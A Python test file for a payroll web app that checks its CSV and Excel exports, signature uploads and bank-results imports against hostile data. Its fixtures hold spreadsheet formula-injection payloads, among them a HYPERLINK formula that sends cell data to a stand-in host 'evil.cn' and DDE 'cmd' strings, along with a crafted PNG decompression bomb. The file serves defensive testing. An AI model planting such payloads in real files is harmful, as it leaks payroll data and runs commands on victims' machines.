"""Issue 23: hostile data in the flows (HTTP). Formula cells, the frozen payee, signatures, bank results."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from models import Project, Team, WorkerProfile, db
from services.days import business_day
from tests.factories import profile_body
from tests.payroll.conftest import PayrollSite, confirm, error
from tests.payroll.test_approval_and_bank import approved

EVIL_NAME = '=HYPERLINK("//evil.cn","查")'
EVIL_BANK = '=HYPERLINK("http://evil.cn/?c="&D3&"-"&C3,"…")'


def _poison(app, s: PayrollSite) -> None:
    """What an old row or a hostile staff member left behind: formulas in names, banks, project and team."""
    from services import pii
    from tests.payroll.conftest import profile_context

    with app.app_context():
        profile = db.session.query(WorkerProfile).filter_by(user_id=s.users["w1"]).one()
        profile.name_enc = pii.encrypt_str(EVIL_NAME, context=profile_context("name", profile.id))
        profile.name_masked, profile.bank_name = "@SUM(1+1)", EVIL_BANK
        db.session.get(Project, s.project_id).name = "+cmd|' /C calc'!A0"
        db.session.get(Team, s.team_id).name = "-2+3+cmd|' /C calc'!A0"
        db.session.commit()


def _texts(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula reached the sheet"
    return [c.value for c in cells]


def _no_formula_text(values: list[object]) -> None:
    bad = [v for v in values if isinstance(v, str) and v[:1] in "=+-@\t\r"]
    assert not bad, bad


def test_no_stored_text_becomes_a_formula_in_any_export(app, client, psite) -> None:
    s = psite
    _poison(app, s)
    payroll_id = approved(client, s)
    text = client.get(f"/api/v1/payrolls/{payroll_id}/bank-file", headers=s.headers["labour"]).data.decode()
    rows = list(csv.reader(io.StringIO(text)))
    _no_formula_text([v for row in rows for v in row])
    assert ["'" + EVIL_NAME, "'" + EVIL_BANK] in [[r[2], r[4]] for r in rows]
    for url in (f"/api/v1/payrolls/{payroll_id}/bank-file.xlsx", f"/api/v1/payrolls/{payroll_id}/wage-sheet.xlsx"):
        resp = client.get(url, headers=s.headers["labour"])
        assert resp.status_code == 200, url
        values = _texts(resp.data)
        _no_formula_text(values)
    month = s.month
    sheet = client.get(f"/api/v1/teams/{s.team_id}/attendance.xlsx?month={month}", headers=s.headers["leader"])
    _no_formula_text(_texts(sheet.data))
    today = business_day()
    q = f"?from={(today - timedelta(days=60)).isoformat()}&to={today.isoformat()}"
    for name in ("roster", "attendance", "wages"):
        resp = client.get(f"/api/v1/projects/{s.project_id}/exports/{name}.xlsx{q}", headers=s.headers["labour"])
        assert resp.status_code == 200, name
        _no_formula_text(_texts(resp.data))


def test_names_are_names(client, psite) -> None:
    s = psite
    from tests.factories import give_consents

    give_consents(client, s.headers["owner"])
    for bad in ({"name": EVIL_NAME}, {"name": "张三=1"}, {"bank_name": EVIL_BANK}):
        resp = client.put("/api/v1/me/profile", json=profile_body(**bad), headers=s.headers["owner"])
        assert resp.status_code == 422, (bad, resp.get_json())
        assert error(resp)["details"]["fields"][0]["loc"] in ("name", "bank_name")
    ok = client.put("/api/v1/me/profile", json=profile_body(name="阿依古丽·买买提"), headers=s.headers["owner"])
    assert ok.status_code == 200, ok.get_json()
    _ = confirm  # the leader's confirmation is used by approved()


def _apply_and_approve(client, s: PayrollSite, who: str) -> None:
    """A real worker's path (consents, profile, join) reviewed by the labour manager."""
    from models import Membership, User
    from tests.api.enrollment_site import Site, apply
    from tests.factories import make_face_template

    with client.application.app_context():
        code = db.session.get(Project, s.project_id).join_code
    site = Site(s.project_id, code, s.team_id, s.users, s.headers)
    apply(client, site, who, face=False, name="钱多多")
    with client.application.app_context():
        make_face_template(db.session.get(User, s.users[who]))
        membership = db.session.query(Membership).filter_by(user_id=s.users[who], project_id=s.project_id, role="worker").one()
        db.session.commit()
        membership_id = membership.id
    resp = client.post(f"/api/v1/enrollments/{membership_id}/approve", headers=s.headers["labour"])
    assert resp.status_code == 200, resp.get_json()


def test_the_reviewed_name_is_locked_and_the_payee_frozen_at_approval(app, client, psite) -> None:
    s = psite
    _apply_and_approve(client, s, "owner")
    changed = client.put("/api/v1/me/profile", json=profile_body(name="孙悟空"), headers=s.headers["owner"])
    assert changed.status_code == 409 and error(changed)["code"] == "PROFILE_LOCKED", changed.get_json()
    assert error(changed)["details"]["field"] == "name"
    # the labour manager corrects it, audited
    fixed = client.put(f"/api/v1/projects/{s.project_id}/workers/{s.users['owner']}/real-name",
                       json={"name": "钱多", "reason": "身份证核对"}, headers=s.headers["labour"])
    assert fixed.status_code == 200 and fixed.get_json()["name_masked"] == "钱*", fixed.get_json()

    payroll_id = approved(client, s)
    before = client.get(f"/api/v1/payrolls/{payroll_id}/bank-file", headers=s.headers["labour"]).data.decode()
    # w1 swaps the card after approval: the bank file still pays the card approved
    from services import pii
    from tests.factories import bank_card
    from tests.payroll.conftest import profile_context

    with app.app_context():
        profile = db.session.query(WorkerProfile).filter_by(user_id=s.users["w1"]).one()
        new_card = bank_card("622202020099887766")
        profile.bank_card_enc = pii.encrypt_str(new_card, context=profile_context("bank_card", profile.id))
        profile.name_enc = pii.encrypt_str("冒名顶替", context=profile_context("name", profile.id))
        profile.bank_card_last4, profile.bank_name = new_card[-4:], "别的银行"
        db.session.commit()
    after = client.get(f"/api/v1/payrolls/{payroll_id}/bank-file", headers=s.headers["labour"]).data.decode()
    assert after == before and new_card not in after and "冒名顶替" not in after
    detail = client.get(f"/api/v1/payrolls/{payroll_id}", headers=s.headers["labour"]).get_json()
    w1 = next(line for line in detail["lines"] if line["user_id"] == s.users["w1"])
    assert not w1["bank_card_masked"].endswith(new_card[-4:]) and w1["bank_card_masked"][-4:] in before


def _png(width: int, height: int, idat: bytes) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_a_crafted_signature_never_breaks_the_wage_sheet(app, client, psite) -> None:
    import zlib

    from models import PayrollLine
    from services.payroll.slips import signature_context
    from tests.payroll.conftest import sign_slip

    s = psite
    for n in (1, 2):
        confirm(client, s, s.day(n), w1=("present", 480), w2=("present", 480), w3=("half", 240))
    payroll_id = client.post(f"/api/v1/projects/{s.project_id}/payrolls", json={"month": s.month},
                             headers=s.headers["labour"]).get_json()["id"]
    assert client.post(f"/api/v1/payrolls/{payroll_id}/issue-slips", headers=s.headers["labour"]).status_code == 200
    lines = client.get(f"/api/v1/payrolls/{payroll_id}?limit=100", headers=s.headers["labour"]).get_json()["lines"]
    slips = {line["user_id"]: line["id"] for line in lines}
    slip_id = slips[s.users["w1"]]
    garbage = _png(200, 80, zlib.compress(b"\x00" + b"\xff" * 50))  # valid CRCs, far too little image data
    bomb = _png(30000, 30000, zlib.compress(b""))
    assert len(bomb) < 100
    for png in (garbage, bomb):
        resp = client.post(f"/api/v1/payslips/{slip_id}/confirm", data={"signature": (io.BytesIO(png), "s.png")},
                           headers=s.headers["w1"], content_type="multipart/form-data")
        assert resp.status_code == 422 and error(resp)["code"] == "SIGNATURE_INVALID", resp.get_json()
    for who in ("w1", "w2", "w3"):
        assert sign_slip(client, s.headers[who], slips[s.users[who]]).status_code == 200
    assert client.post(f"/api/v1/payrolls/{payroll_id}/submit", headers=s.headers["labour"]).status_code == 200
    assert client.post(f"/api/v1/payrolls/{payroll_id}/approve", headers=s.headers["approver"]).status_code == 200
    # a bad image stored before this check existed: the PDF is still produced
    from services.storage import objects

    with app.app_context():
        line = db.session.get(PayrollLine, slip_id)
        line.signature_object_id = objects.put(garbage, context=signature_context(line.id), content_type="image/png").id
        db.session.commit()
    pdf = client.get(f"/api/v1/payrolls/{payroll_id}/wage-sheet.pdf", headers=s.headers["approver"])
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"


def test_odd_bank_results_files_are_refused_with_the_row(app, client, psite) -> None:
    from tests.payroll.test_approval_and_bank import bank_rows, post_results, results_csv

    s = psite
    payroll_id = approved(client, s)
    ref = bank_rows(client, s, payroll_id)[0]["line_ref"]
    for amount in ("²", "٧٢٠٠٠", "７２０００", "1" * 40):
        resp = post_results(client, s, payroll_id, results_csv((ref, "paid", amount, "")))
        assert resp.status_code == 422, (amount, resp.get_json())
        assert error(resp)["code"] in ("BANK_RESULTS_MISMATCH", "BANK_RESULTS_INVALID")
        assert error(resp)["details"]["rows"][0]["row"] == 2
    huge = results_csv((ref, "paid", "72000", "x" * 140_000))
    resp = post_results(client, s, payroll_id, huge)
    assert resp.status_code == 422 and error(resp)["code"] == "BANK_RESULTS_INVALID", resp.get_json()
    assert error(resp)["details"]["row"] == 2
    nul = post_results(client, s, payroll_id, b"line_ref,status,amount_fen,reason\n" + ref.encode() + b",paid,1\x00,\n")
    assert nul.status_code == 422
